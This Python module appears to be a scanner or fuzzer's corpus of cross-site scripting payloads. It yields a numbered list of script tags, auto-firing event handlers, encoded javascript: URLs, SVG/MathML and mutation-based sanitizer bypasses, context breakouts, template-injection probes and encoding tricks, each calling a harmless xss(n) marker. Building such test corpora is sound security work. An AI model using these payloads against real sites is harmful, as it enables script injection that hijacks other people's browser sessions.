"""What somebody may type to run a script in another's browser: families, written for this project.

Each payload calls ``xss(n)`` with its own number, or leaves the attribute ``data-xss`` in the
page; template syntax gives PRODUCT when something computes it.
"""

from collections.abc import Callable, Iterator
from functools import cache

PRODUCT = str(1337 * 7331)
Family = Callable[[], Iterator[str]]

# Elements with what makes them fire at once, and the event.
FIRING = (
    ("img", "src=x", "onerror"),
    ("img", "src=/favicon.ico", "onload"),
    ("image", "src=x", "onerror"),
    ("svg", "", "onload"),
    ("body", "", "onload"),
    ("body", "", "onpageshow"),
    ("iframe", "", "onload"),
    ("style", "", "onload"),
    ("link", "rel=stylesheet href=x", "onerror"),
    ("script", "src=x:", "onerror"),
    ("object", "data=x:", "onerror"),
    ("embed", "src=x:", "onerror"),
    ("video", "src=x", "onerror"),
    ("audio", "src=x", "onerror"),
    ("video", "><source src=x", "onerror"),
    ("details", "open", "ontoggle"),
    ("input", "autofocus", "onfocus"),
    ("select", "autofocus", "onfocus"),
    ("textarea", "autofocus", "onfocus"),
    ("button", "autofocus", "onfocus"),
    ("a", "href=# autofocus", "onfocus"),
    ("p", "contenteditable autofocus", "onfocus"),
    ("div", "tabindex=0 autofocus", "onfocus"),
    ("marquee", "loop=1", "onstart"),
    ("xss", "style=animation:a tabindex=1 autofocus", "onfocus"),
    ("input", "type=image src=x", "onerror"),
)
# How the same attribute can be written.
SPELLINGS = (
    "<{tag} {more} {event}={code}>",
    '<{tag} {more} {event}="{code}">',
    "<{tag}/{more}/{event}='{code}'//",
    "<{TAG}\n{more}\t{EVENT} = {code} data-xss>",
)
CARRIERS = (
    "<a href='{url}' data-xss>a</a>",
    "<iframe src='{url}'></iframe>",
    "<form action='{url}'><button data-xss>b</button></form>",
    "<button formaction='{url}' data-xss>b</button>",
    "<object data='{url}'></object>",
    "<embed src='{url}'>",
    "<svg><a xlink:href='{url}' data-xss><text y=9>t</text></a></svg>",
    "<math href='{url}' data-xss>m</math>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<base href='{url}//'><a href=x data-xss>b</a>",
)
SCHEMES = (
    "javascript:{code}",
    "JaVaScRiPt:{code}",
    "java&Tab;script:{code}",
    "java&NewLine;script&colon;{code}",
    "&#1;javascript:{code}",
    "&#106;avascript:{code}",
    "&#x6A&#x61;vascript:{code}",
    "&#0000106avascript:{code}",
    "javascript://%0a{code}",
    "data:text/html,<script>parent.{code}</script>",
    "vbscript:{code}",
)


def scripts() -> Iterator[str]:
    """Script elements, whole, hidden and half."""
    yield "<script>{code}</script>"
    yield "<ScRiPt data-xss>{code}</sCrIpT>"
    yield "<script\n>{code}</script\t>"
    yield "<script/x>{code}</script>"
    yield "<<script>{code}//<</script>"
    yield "<scr<script></script>ipt>{code}</scr</script>ipt>"
    yield "<script src=data:text/javascript,{code}></script>"
    yield "<script type=module>{code}</script>"
    yield "<script>{code}"
    yield "<script\x00>{code}</script>"
    yield "<svg><script>{code}</script></svg>"
    yield "<svg><script href=data:,{code} /></svg>"
    yield "<noscript><script>{code}</script></noscript>"


def events() -> Iterator[str]:
    """Event handlers on whatever fires without a visitor's doing."""
    for number, (tag, more, event) in enumerate(FIRING):
        for spelling in (SPELLINGS[0], SPELLINGS[1 + number % 3]):
            yield (
                spelling.replace("{tag}", tag)
                .replace("{TAG}", tag.upper())
                .replace("{more}", more)
                .replace("{event}", event)
                .replace("{EVENT}", event.upper())
            )


def addresses() -> Iterator[str]:
    """Addresses that are programs: each carrier plainly, each spelling in two carriers."""
    for carrier in CARRIERS:
        yield carrier.replace("{url}", SCHEMES[0])
    for number, scheme in enumerate(SCHEMES):
        for step in (0, 1 + number % 5, 6 + number % 4):
            yield CARRIERS[step].replace("{url}", scheme)


def namespaces() -> Iterator[str]:
    """SVG and MathML, where other rules of parsing hold."""
    yield "<svg/onload={code}>"
    yield "<svg><animate onbegin={code} attributeName=x dur=1s>"
    yield "<svg><set onbegin={code} attributeName=x>"
    yield "<svg><a><animate attributeName=href values=javascript:{code} /><text y=9>t</text></a>"
    yield "<svg><animateTransform onbegin={code} attributeName=transform>"
    yield "<svg><foreignObject><img src=x onerror={code}></foreignObject></svg>"
    yield "<svg><use href='data:image/svg+xml,<svg id=x onload={code}></svg>#x'></svg>"
    yield "<svg><image href=x onerror={code} /></svg>"
    yield "<svg><title><img src=x onerror={code}></title></svg>"
    yield "<svg><desc><iframe srcdoc='<script>parent.{code}</script>'></desc></svg>"
    yield "<svg><style>*{}</style><img src=x onerror={code}>"
    yield "<svg xmlns:x='http://www.w3.org/1999/xhtml'><x:script>{code}</x:script></svg>"
    yield "<math><mi><img src=x onerror={code}></mi></math>"
    yield "<math><annotation-xml encoding=text/html><img src=x onerror={code}></annotation-xml>"
    yield "<math><mtext><svg onload={code}></mtext></math>"
    yield "<math><maction actiontype=statusline xlink:href=javascript:{code} data-xss>m</maction>"


def mutations() -> Iterator[str]:
    """What is harmless when read once and runs when its rewriting is read again."""
    hidden = "<img title='--&gt;<img src=x onerror={code}>'>"
    yield f"<math><mtext><table><mglyph><style><!--</style>{hidden}"
    yield "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={code}>"
    yield "<svg></p><style><a id='</style><img src=x onerror={code}>'>"
    yield "<svg><p><style><g title='</style><img src=x onerror={code}>'>"
    yield "<noscript><p title='</noscript><img src=x onerror={code}>'>"
    yield "<noembed><p title='</noembed><img src=x onerror={code}>'>"
    yield "<xmp><p title='</xmp><img src=x onerror={code}>'>"
    yield "<iframe><p title='</iframe><img src=x onerror={code}>'>"
    yield "<textarea><p title='</textarea><img src=x onerror={code}>'>"
    yield "<title><p title='</title><img src=x onerror={code}>'>"
    yield "<style><p title='</style><img src=x onerror={code}>'>"
    yield "<template><img src=x onerror={code}></template>"
    yield "<select><template><img src=x onerror={code}></template></select>"
    yield "<select><style></select><img src=x onerror={code}></style>"
    yield "<table><td><svg><desc><td><img src=x onerror={code}>"
    yield "<math><mi><table><mglyph><script>{code}</script>"
    yield "<svg><!--<![CDATA[--><img src=x onerror={code}>]]>"
    yield "<!--><img src=x onerror={code}>-->"
    yield "<!-- --!><img src=x onerror={code}>"
    yield "<![CDATA[><img src=x onerror={code}>]]>"
    yield "<?xml ><img src=x onerror={code}>?>"
    yield "<a title='`<img src=x onerror={code}>`'>a</a>"
    yield "<b><a><b><img src=x onerror={code}></a></b>"
    yield "<plaintext><img src=x onerror={code}>"


def styles() -> Iterator[str]:
    """Style sheets that fetch, cover or run."""
    yield "<style>@import 'data:text/css,*{color:red}';</style>"
    yield "<style>*{animation:a}@keyframes a{}</style><b onanimationstart={code}>b</b>"
    yield "<p style=\"background:url('javascript:{code}')\" data-xss>p</p>"
    yield "<p style='width:expression({code})' data-xss>p</p>"
    yield "<p style='position:fixed;inset:0;z-index:9' data-xss onmouseover={code}>p</p>"
    yield "<p style='transition:1s' ontransitionend={code} data-xss>p</p>"
    yield "<link rel=stylesheet href='data:text/css,*{}' onload={code}>"
    yield "<b style=animation:a onanimationcancel={code} data-xss>b</b>"


def frames() -> Iterator[str]:
    """Documents inside the document."""
    yield "<iframe srcdoc='<script>parent.{code}</script>'></iframe>"
    yield "<iframe srcdoc='&lt;img src=x onerror=parent.{code}&gt;'></iframe>"
    yield "<iframe srcdoc=\"<svg onload='top.{code}'>\"></iframe>"
    yield "<iframe src='data:text/html,<script>top.{code}</script>'></iframe>"
    yield "<frameset onload={code}><frame src=x></frameset>"
    yield "<object type=text/html data='data:text/html,<script>parent.{code}</script>'></object>"
    yield "<portal src='javascript:{code}'></portal>"
    yield "<fencedframe src='javascript:{code}'></fencedframe>"


def breakouts() -> Iterator[str]:
    """Ways out of where a page puts a value: an attribute, a title, a script, a comment."""
    yield '"><img src=x onerror={code}>'
    yield "'><img src=x onerror={code}>"
    yield '" autofocus onfocus={code} data-xss="'
    yield "' autofocus onfocus={code} data-xss='"
    yield "` onmouseover={code} data-xss `"
    yield " autofocus onfocus={code} data-xss "
    yield "</title><script>{code}</script>"
    yield "</textarea><script>{code}</script>"
    yield "</script><script>{code}</script>"
    yield "</style><script>{code}</script>"
    yield "</option></select><img src=x onerror={code}>"
    yield "--><script>{code}</script><!--"
    yield "]]><script>{code}</script>"
    yield "';{code};//"
    yield '";{code};//'
    yield "'-{code}-'"
    yield "\\';{code};//"
    yield "\u2028{code}\u2029"
    yield "${{code}}"
    yield "`+{code}+`"
    yield "javascript:{code}"
    yield "<!--<script>{code}"


def templates() -> Iterator[str]:
    """Syntax that a template language would compute."""
    sum_ = "1337*7331"
    yield from (f"{{{{{sum_}}}}}", f"${{{sum_}}}", f"#{{{sum_}}}", f"<%= {sum_} %>")
    yield from (f"{{{{= {sum_} }}}}", f"[[{sum_}]]", f"@({sum_})", f"{{%print({sum_})%}}")
    yield "{{constructor.constructor('{code}')()}}"
    yield "{{''.__class__.__mro__}}{%debug%}"
    yield "{{request.session.items}}{%include request.path%}"
    yield "<b v-html=\"'<img src=x onerror={code}>'\" x-init={code} ng-init={code} data-xss>b</b>"
    yield "<b data-behaviour='ask-once' hx-on:load={code} data-xss>b</b>"
    yield "<b data-controller='w-init' data-action='load->w-init#x' data-xss>b</b>"


def spellings() -> Iterator[str]:
    """Signs that some decoder might make into brackets."""
    yield "＜script＞{code}＜/script＞"
    yield "+ADw-script+AD4-{code}+ADw-/script+AD4-"
    yield "%3Cscript%3E{code}%3C/script%3E"
    yield "&lt;script&gt;{code}&lt;/script&gt;"
    yield "&amp;lt;img src=x onerror={code}&amp;gt;"
    yield "\\u003cimg src=x onerror={code}\\u003e"
    yield "\\x3cscript\\x3e{code}\\x3c/script\\x3e"
    yield "\u202e<img src=x onerror={code}>\u202c"
    yield "<img\u00a0src=x\u3000onerror={code}>"
    yield "<img src=x onerror\x0b=\x0c{code}>"


FAMILIES: tuple[Family, ...] = (
    scripts,
    events,
    addresses,
    namespaces,
    mutations,
    styles,
    frames,
    breakouts,
    templates,
    spellings,
)


def _numbered() -> list[str]:
    found = dict.fromkeys(text for family in FAMILIES for text in family())
    return [text.replace("{code}", f"xss({number})") for number, text in enumerate(found)]


PAYLOADS = _numbered()


def packed(room: int, turn: int = 0) -> str:
    """Payloads one after the other until the room (characters) is full, the ``turn``-th filling."""
    found = fillings(room)
    return found[turn % len(found)]


@cache
def fillings(room: int) -> list[str]:
    """All payloads that are short enough, in as few texts of this length as they need."""
    texts: list[str] = [""]
    for payload in PAYLOADS:
        if len(payload) > room:
            continue
        if len(texts[-1]) + len(payload) > room:
            texts.append("")
        texts[-1] += payload
    return texts
